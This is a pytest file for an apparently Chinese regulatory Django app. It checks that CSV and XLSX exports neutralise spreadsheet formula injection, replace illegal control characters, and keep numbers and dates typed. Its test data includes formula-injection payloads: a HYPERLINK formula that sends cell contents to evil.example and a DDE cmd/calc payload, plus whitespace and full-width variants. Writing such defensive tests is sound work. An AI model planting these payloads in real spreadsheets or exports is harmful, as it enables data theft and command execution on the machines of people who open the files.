"""Spreadsheet injection (issue 10, item 6): hostile text typed by anyone (an officer's post, a
party's name, a file name) goes through every export, in every format, and never reaches a
spreadsheet as a formula; a control character that XLSX cannot hold (in a case title) does not
break the county's access-log export; numbers and dates keep their types; and the registry's
export still imports back unchanged."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from sanxiang.access.models import AccessLogEntry
from sanxiang.access.services import access_record
from sanxiang.accounts.models import Role
from sanxiang.cases.services import case_create
from sanxiang.publication.dual_publicity import dual_publicity_csv, dual_publicity_rows, dual_publicity_xlsx
from sanxiang.registry import excel
from sanxiang.registry.models import Officer
from sanxiang.review.exports import supervision_csv
from sanxiang.review.selectors import AgencyReviewFigures
from sanxiang.tabular import FORMULA_START, REPLACEMENT_CHARACTER, csv_bytes, csv_cell, xlsx_cell
from tests.factories import agency_make, officer_make, user_make
from tests.publication.test_dual_publicity import public_agency_for, publication_make

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "-2+3",
    "\r=1+1",
]
CONTROL = "无照\x0b经营\x07案"  # vertical tab and bell: openpyxl raises IllegalCharacterError on both (PostgreSQL refuses NUL itself)


def xlsx_cells(content: bytes) -> list:
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_formula(content: bytes) -> list:
    cells = xlsx_cells(content)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    return cells


def csv_cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")) for cell in row]


def assert_neutralised(content: bytes) -> list[str]:
    cells = csv_cells(content)
    assert [c for c in cells if c.startswith(FORMULA_START)] == []
    return cells


# The shared writer --------------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
def test_the_writer_keeps_formula_like_text_as_text(text):
    assert csv_cell(text) == "'" + text
    sheet = Workbook(write_only=True).create_sheet("x")
    cell = xlsx_cell(sheet, text)
    assert (cell.data_type, cell.value, cell.quotePrefix) == ("s", text, True)


@pytest.mark.parametrize(
    "text",
    [" =1+1", "\u3000=HYPERLINK(\"http://evil.example\")", "\n=1+1", "\u00a0+cmd|' /C calc'!A0",
     "\uff1d1+1", "\uff0bcmd|' /C calc'!A0", "\uff20SUM(1+1)", " \uff0d2+3"],
)
def test_the_writer_also_neutralises_a_formula_after_whitespace_or_in_full_width(text):
    # Some spreadsheet programs trim leading whitespace on import or convert ＝ typed by a Chinese
    # input method: such a cell was written as typed, ready to be read as a formula.
    assert csv_cell(text) == "'" + text
    sheet = Workbook(write_only=True).create_sheet("x")
    cell = xlsx_cell(sheet, text)
    assert (cell.data_type, cell.value, cell.quotePrefix) == ("s", text, True)


def test_the_writer_keeps_numbers_and_dates():
    assert csv_bytes([[-5, Decimal("-1.50"), 2.5, dt.date(2026, 3, 1), dt.datetime(2026, 3, 1, 8, 5, 9), None, True]]) == (
        "\ufeff-5,-1.50,2.5,2026-03-01,2026-03-01 08:05:09,,是\r\n".encode()
    )
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("x")
    sheet.append([xlsx_cell(sheet, v) for v in (-5, Decimal("1.5"), dt.date(2026, 3, 1), dt.datetime(2026, 3, 1, 8, 5, 9))])
    out = io.BytesIO()
    workbook.save(out)
    values = [c.value for c in xlsx_cells(out.getvalue())]
    assert values == [-5, 1.5, dt.datetime(2026, 3, 1), dt.datetime(2026, 3, 1, 8, 5, 9)]


@settings(max_examples=60, deadline=None)
@given(st.text(alphabet=st.characters(max_codepoint=0x3000), max_size=12))
def test_any_text_makes_a_readable_file_with_no_formula(text):
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("x")
    sheet.append([xlsx_cell(sheet, text)])
    out = io.BytesIO()
    workbook.save(out)  # never IllegalCharacterError
    (cell,) = assert_no_formula(out.getvalue()) or [None]
    if text:
        assert cell.data_type == "s" and all(ch >= " " or ch in "\t\n\r" for ch in cell.value)
    assert not csv_cell(text).startswith(FORMULA_START)


# Every export -----------------------------------------------------------------------------------


@pytest.mark.django_db
def test_registry_export_writes_an_officers_post_as_text_and_imports_it_back():
    agency = agency_make(name="乌审旗市场监督管理局")
    for post in HOSTILE[:4]:
        officer_make(agency=agency, post=post)
    admin = user_make(role=Role.AGENCY_ADMIN, agency=agency)
    exported = excel.registry_export_build(viewer=admin, kind="officers")
    posts = {c.value for c in assert_no_formula(exported) if c.column == 3 and c.row > 1}
    assert set(HOSTILE[:4]) <= posts
    before = sorted(Officer.objects.values_list("id_number", "post"))
    report = excel.registry_import(actor=admin, kind="officers", file=io.BytesIO(exported))
    assert report.ok, report.errors
    assert report.unchanged == 4 and sorted(Officer.objects.values_list("id_number", "post")) == before


@pytest.mark.django_db
def test_dual_publicity_files_neutralise_party_names():
    own = agency_make(name="乌审旗市场监督管理局")
    public = public_agency_for(own)
    for name in HOSTILE:
        publication_make(agency=public, credit=own.credit_code, party_name=name, decided_on=dt.date(2026, 3, 10))
    rows = dual_publicity_rows(agency_ids=None, start=dt.date(2026, 3, 1), end=dt.date(2026, 3, 31), layout="CF")
    cells = assert_neutralised(dual_publicity_csv(rows, layout="CF"))
    assert {"'" + name for name in HOSTILE} <= set(cells)
    values = {c.value for c in assert_no_formula(dual_publicity_xlsx(rows, layout="CF"))}
    # "\r" is stored as a line break by XML; the rest reads back exactly.
    assert set(HOSTILE[:-1]) <= values


@pytest.mark.django_db
def test_access_log_exports_survive_hostile_labels_and_a_control_character_in_a_case_title(client):
    bureau = agency_make(name="乌审旗司法局", is_judicial_bureau=True)
    own = agency_make(name="本局")
    case = case_create(actor=None, agency=own, number="乌审市监罚〔2026〕7号", title="无照经营")
    officer = user_make(role=Role.OFFICER, agency=own)
    for label in [*HOSTILE, "title"]:
        access_record(actor=officer, action="view", object_kind="case", object_id=case.pk, object_label=label,
                      case_id=case.pk, agency_id=own.pk, ip_address="10.0.0.8")
    # As a title saved before input was checked would be: written behind the services' back.
    AccessLogEntry.objects.filter(object_label="title").update(object_label=CONTROL)
    client.force_login(user_make(role=Role.SUPERVISOR, agency=bureau))

    response = client.get(reverse("access:log_export_xlsx"))
    assert response.status_code == 200
    cells = assert_no_formula(b"".join(response.streaming_content))
    labels = {c.value for c in cells if c.column == 8}
    assert set(HOSTILE[:-1]) <= labels
    assert f"无照{REPLACEMENT_CHARACTER}经营{REPLACEMENT_CHARACTER}案" in labels
    times = [c.value for c in cells if c.column == 1 and c.row > 1]
    assert times and all(isinstance(t, dt.datetime) for t in times)  # dates stay dates
    assert all(isinstance(c.value, int) for c in cells if c.column == 12 and c.row > 1 and c.value is not None)

    response = client.get(reverse("access:log_export_csv"))
    cells = assert_neutralised(b"".join(response.streaming_content))
    assert {"'" + label for label in HOSTILE} <= set(cells)
    assert f"无照{REPLACEMENT_CHARACTER}经营{REPLACEMENT_CHARACTER}案" in cells


def test_supervision_csv_neutralises_an_agency_name_and_keeps_figures():
    figures = [
        AgencyReviewFigures(
            agency_id=i, agency_name=name, major_decided=2, reviewed=1, rounds=1, review_days=3, reviews_timed=1,
            sent_back=0, reviewers=1, officers=4, reviewer_ratio_required=0.05, reviewer_ratio_low=False,
            reviewer_ratio_low_agencies=0,
        )
        for i, name in enumerate(HOSTILE)
    ]
    total = figures[0]
    cells = assert_neutralised(supervision_csv(figures, total))
    assert {"'" + name for name in HOSTILE} <= set(cells)
    assert "50.0" in cells  # a figure stays a plain number
